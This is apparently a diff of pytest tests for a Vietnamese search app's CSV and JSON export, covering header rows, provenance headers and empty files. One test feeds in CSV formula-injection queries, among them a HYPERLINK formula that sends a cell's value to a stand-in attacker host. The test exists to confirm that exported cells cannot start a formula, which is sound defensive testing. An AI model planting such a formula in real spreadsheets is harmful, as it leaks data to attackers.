@@ -5,9 +5,12 @@ from __future__ import annotations
 import csv
 import io
 import json
+from urllib.parse import unquote
 from xml.etree import ElementTree as ET
 
 import pytest
+
+from search_app.export import CSV_COLUMNS
 
 ATOM = "{http://www.w3.org/2005/Atom}"
 
@@ -16,33 +19,67 @@ def _total(client, **params) -> int:
     return client.get("/api/search", query_string=params).get_json()["total"]
 
 
-def _csv_rows(client, **params) -> tuple[list[list[str]], list[list[str]]]:
+def _csv_response(client, **params):
     response = client.get("/xuat", query_string={"format": "csv", **params})
     assert response.status_code == 200
     assert "attachment" in response.headers["Content-Disposition"]
-    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
-    comments = [r for r in rows if r and r[0].startswith("#")]
-    return comments, [r for r in rows if r and not r[0].startswith("#")]
+    return response
+
+
+def _csv_records(client, **params) -> list[dict]:
+    text = _csv_response(client, **params).get_data(as_text=True)
+    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
 
 
 def test_csv_export_holds_every_result_and_names_its_query(client):
     total = _total(client, q="tinh")  # every accented form of "tinh"
     assert total > 100  # more than the largest page: no silent cap
-    comments, rows = _csv_rows(client, q="tinh", per_page=5, page=3)
-    header, data = rows[0], rows[1:]
-    assert header[:3] == ["url", "title", "published"]
-    assert len(data) == total
-    assert len({r[0] for r in data}) == total
-    notes = {r[0]: r[1] for r in comments}
-    assert notes["# Truy vấn"] == "tinh"
-    assert notes["# Thời điểm xuất"][:2] == "20"
-    assert notes["# Tổng số bài"] == str(total)
+    response = _csv_response(client, q="tinh", per_page=5, page=3)
+    records = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+    assert len(records) == total
+    assert len({r["url"] for r in records}) == total
+    assert unquote(response.headers["X-Tracuu-Query"]) == "tinh"
+    assert response.headers["X-Tracuu-Exported-At"][:2] == "20"
+    assert json.loads(unquote(response.headers["X-Tracuu-Filters"]))["q"] == "tinh"
+    assert "tracuu-tinh-20" in response.headers["Content-Disposition"]
+
+
+def test_csv_header_is_the_first_row_for_dictreader(client):
+    text = _csv_response(client, q="Hà Tĩnh").get_data(as_text=True).lstrip("\ufeff")
+    first = next(csv.reader(io.StringIO(text)))
+    assert first[:3] == ["url", "title", "published"]
+    assert {"fetched_at", "content_hash", "gone_at", "edited"} <= set(first)
+    assert all(name.isascii() and name == name.lower() for name in first)  # one language
+    record = next(csv.DictReader(io.StringIO(text)))
+    assert record["url"].startswith("http") and record["content_hash"].startswith("sha256:")
+    assert record["fetched_at"][:2] == "20"
+
+
+def test_csv_reads_with_pandas_defaults(client):
+    pandas = pytest.importorskip("pandas")
+    raw = _csv_response(client, q="covid").get_data()
+    frame = pandas.read_csv(io.BytesIO(raw), encoding="utf-8-sig")
+    assert list(frame.columns[:3]) == ["url", "title", "published"]
+    assert len(frame) == _total(client, q="covid")
+
+
+def test_csv_content_type_names_its_charset_once(client):
+    content_type = _csv_response(client, q="covid").headers["Content-Type"]
+    assert content_type == "text/csv; charset=utf-8"
 
 
 def test_csv_export_of_everything_matches_the_index_size(client):
     documents = client.get("/api/stats").get_json()["documents"]
-    _, rows = _csv_rows(client)
-    assert len(rows) - 1 == documents
+    assert len(_csv_records(client)) == documents
+
+
+def test_json_export_carries_provenance(client):
+    response = client.get("/xuat", query_string={"format": "json", "q": "covid"})
+    assert response.headers["Content-Type"] == "application/json; charset=utf-8"
+    first = json.loads(response.get_data(as_text=True))["results"][0]
+    assert set(first) == set(CSV_COLUMNS)
+    assert first["content_hash"].startswith("sha256:") and first["fetched_at"][:2] == "20"
+    assert first["gone_at"] is None and first["edited"] is False
 
 
 def test_json_export_keeps_order_and_filters(client):
@@ -72,12 +109,12 @@ def test_csv_cells_cannot_start_a_formula():
 @pytest.mark.parametrize(
     "query", ['=HYPERLINK("http://evil.example/?x="&A1,"bấm")', "+1", "-covid", "@SUM(1)"]
 )
-def test_no_csv_cell_starts_a_formula_header_included(client, query):
+def test_no_csv_cell_starts_a_formula_and_the_query_rides_in_a_header(client, query):
     response = client.get("/xuat", query_string={"format": "csv", "q": query})
     assert response.status_code == 200
+    assert unquote(response.headers["X-Tracuu-Query"]) == query  # kept, outside every cell
     text = response.get_data(as_text=True).lstrip("\ufeff")
     cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
-    assert "'" + query in cells  # the query is still there, as text
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
 
 
@@ -106,7 +143,7 @@ def test_export_of_nothing_is_still_a_complete_file(client, fmt):
     if fmt == "json":
         assert json.loads(body)["total"] == 0
     else:
-        assert "# Tổng số bài,0" in body
+        assert body.lstrip("\ufeff").splitlines() == [",".join(CSV_COLUMNS)]
 
 
 @pytest.mark.parametrize("q", ["bão", "Hà Nội", "nong thon"])
